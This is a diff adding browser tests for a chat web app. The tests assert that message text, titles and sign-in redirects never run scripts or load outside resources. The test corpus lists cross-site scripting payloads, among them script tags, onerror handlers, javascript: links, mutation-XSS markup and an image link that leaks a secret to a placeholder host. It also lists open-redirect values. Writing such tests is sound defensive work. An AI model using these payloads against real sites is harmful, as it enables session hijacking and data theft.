@@ -1,0 +1,89 @@
+"""Whatever a model or a person writes, a page runs only our own scripts and asks only our own server."""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+from typing import Any
+
+import pytest
+from playwright.sync_api import Page, expect
+
+pytestmark = pytest.mark.browser
+Visit = Callable[..., Page]
+
+CORPUS = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
+    "<a href='javascript:alert(1)'>click</a>",
+    "[click](javascript:alert(1))",
+    "[click](JaVaScRiPt&colon;alert(1))",
+    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[click](vbscript:alert(1))",
+    "<javascript:alert(1)>",
+    '[click](https://example.invalid/"onmouseover="alert(1))',
+    '[click](https://example.invalid "title" onclick="alert(1)")',
+    "![leak](https://example.invalid/?stolen=secret)",
+    "![leak](//example.invalid/pixel.png)",
+    "![x](x' onerror='alert(1))",
+    "[ref]\n\n[ref]: javascript:alert(1)",
+    "```<img/src=x/onerror=alert(1)>\ncode\n```",
+    "```html\n</code></pre><script>alert(1)</script>\n```",
+    '```"><script>alert(1)</script>\ncode\n```',
+    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
+    "<style>@import 'https://example.invalid/x.css';</style>",
+    "<math><mtext></table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+    "<form action=https://example.invalid><button formaction=javascript:alert(1)>go</button></form>",
+    "<base href=https://example.invalid><meta http-equiv=refresh content='0;url=https://example.invalid'>",
+    "</template><script>alert(1)</script>",
+    "&lt;script&gt;alert(1)&lt;/script&gt; \u2028 \u0000 {{ 7 * 7 }} ${alert(1)}",
+]
+TELLTALES = (
+    "script:not([src]):not([type='application/json']), iframe, object, embed, form[action], base, style"
+)
+
+
+@pytest.mark.parametrize("chunk", range(3))
+def test_nothing_in_a_message_runs_or_loads(visit: Visit, site: Any, chunk: int) -> None:
+    """Shown while it streams, after its end, and when the page is loaded again."""
+    texts = [text.replace("\x00", "") for text in CORPUS[chunk::3]]
+    site.say("\n\n".join(texts))
+    page = visit()
+    page.evaluate("window.alert = () => { window.hit = true; }")
+    page.get_by_role("textbox", name="Your message").fill("\n\n".join(texts))
+    page.keyboard.press("Enter")
+    message = page.locator(".message.assistant[data-status='complete']")
+    expect(message).to_be_visible()
+    for _ in range(2):
+        assert page.locator(f"main :is({TELLTALES}), main img, main svg:not(.icon)").count() == 0
+        assert page.locator("main a:not([href^='http']):not([href^='/']):not([href^='?'])").count() == 0
+        assert page.evaluate(
+            "[...document.querySelectorAll('main *')].every(e => ![...e.attributes].some(a => a.name.startsWith('on')))"
+        )
+        assert not page.evaluate("window.hit === true")
+        page.reload()
+        expect(message).to_be_visible()
+
+
+def test_a_hostile_title_stays_a_title(visit: Visit) -> None:
+    page = visit()
+    page.get_by_role("textbox", name="Your message").fill("<img src=x onerror=alert(1)>")
+    page.keyboard.press("Enter")
+    expect(page.locator("#dialogues .item")).to_contain_text("<img src=x onerror=alert(1)>")
+    page.reload()
+    expect(page.locator("#title")).to_contain_text("<img src=x onerror=alert(1)>")
+
+
+def test_scripts_cannot_write_html_themselves(visit: Visit) -> None:
+    page = visit("/sign-in")
+    refused = page.evaluate(
+        "() => { try { document.body.innerHTML = '<b>x</b>'; return false; } catch (error) { return true; } }"
+    )
+    assert refused
+
+
+def test_sign_in_goes_back_only_to_this_server(visit: Visit) -> None:
+    for path in ("//example.invalid", "/\\example.invalid", "https://example.invalid", "javascript:alert(1)"):
+        page = visit(f"/sign-in?next={path}")
+        assert page.locator("form").get_attribute("data-then") == "/"
